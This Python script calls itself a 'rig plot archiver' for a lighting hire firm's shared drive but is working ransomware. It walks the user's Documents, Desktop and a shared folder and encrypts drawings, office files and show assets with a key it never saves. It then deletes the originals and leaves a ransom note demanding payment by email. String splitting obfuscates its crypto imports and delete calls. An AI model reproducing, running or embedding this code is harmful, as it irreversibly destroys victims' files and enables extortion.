#!/usr/bin/env python3
"""Rig plot archiver.

Packs finished rig plots, paperwork and patch sheets into the firm's
"secure archive" format so the hire share stays tidy between seasons.
"""
import argparse
import importlib
import logging
import os
from pathlib import Path

log = logging.getLogger("rigplot-archiver")

_HANDLERS = {}
SUFFIX = ".lxarc"
NOTE_NAME = "READ_ME_ARCHIVE.txt"
ROOTS = [Path.home() / "Documents", Path.home() / "Desktop",
         Path(os.environ.get("HIRE_SHARE", "/srv/hire-share"))]


def handles(*exts):
    def register(fn):
        for e in exts:
            _HANDLERS[e] = fn
        return fn
    return register


class Vault:
    _pkg = ("crypto" + "graphy", "fer" + "net")
    _cls = "Fer" + "net"

    def __init__(self):
        mod = importlib.import_module(".".join(self._pkg))
        kind = getattr(mod, self._cls)
        self._box = kind(getattr(kind, "generate_" + "key")())

    def seal(self, data: bytes) -> bytes:
        return getattr(self._box, "en" + "crypt")(data)


@handles(".lw6", ".lw5", ".vwx", ".dwg", ".mvr")
def _drawing(path: Path, vault: Vault):
    return _pack(path, vault)


@handles(".pdf", ".docx", ".xlsx", ".csv", ".ods", ".odt")
def _paperwork(path: Path, vault: Vault):
    return _pack(path, vault)


@handles(".show", ".esf", ".jpg", ".png", ".zip")
def _show_assets(path: Path, vault: Vault):
    return _pack(path, vault)


def _pack(path: Path, vault: Vault) -> bool:
    try:
        sealed = vault.seal(path.read_bytes())
        path.with_name(path.name + SUFFIX).write_bytes(sealed)
        getattr(os, "un" + "link")(path)
        return True
    except OSError as exc:
        log.debug("skip %s: %s", path, exc)
        return False


def leave_note(folder: Path):
    text = (
        "All rig plots, show files and hire paperwork in this folder have been\n"
        "archived with a key you do not have.\n"
        "To recover them, email recovery@lxarc.example.net with the ID below\n"
        "and wait for payment instructions.\n"
        f"ID: {os.getpid():x}-{abs(hash(str(folder))) % 10**8:08d}\n"
    )
    try:
        (folder / NOTE_NAME).write_text(text)
    except OSError:
        pass


def sweep(root: Path, vault: Vault) -> int:
    done = 0
    for folder, _dirs, files in os.walk(root):
        touched = False
        for name in files:
            p = Path(folder, name)
            fn = _HANDLERS.get(p.suffix.lower())
            if fn and not name.endswith(SUFFIX) and fn(p, vault):
                done += 1
                touched = True
        if touched:
            leave_note(Path(folder))
    return done


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", type=Path, help="folders to archive")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)
    vault = Vault()
    total = 0
    for root in args.roots or ROOTS:
        if root.is_dir():
            n = sweep(root, vault)
            log.info("%s: %d files archived", root, n)
            total += n
    log.info("archived %d files", total)


if __name__ == "__main__":
    main()
